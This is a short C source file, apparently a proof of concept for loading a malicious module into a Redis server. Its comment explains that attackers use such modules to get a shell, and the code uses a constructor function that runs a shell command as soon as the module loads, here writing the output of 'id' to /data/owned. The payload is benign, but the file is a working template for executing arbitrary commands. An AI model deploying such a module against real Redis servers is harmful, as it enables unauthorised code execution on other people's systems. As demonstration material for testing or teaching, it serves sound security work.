/* What attackers load into a Redis that allows it: a module that runs a shell as soon as it is loaded. This one only runs `id`,
 * and writes the output into the service's directory. */
#include <stdlib.h>

__attribute__((constructor)) static void run(void) {
  if (system("id > /data/owned") != 0) abort();
}
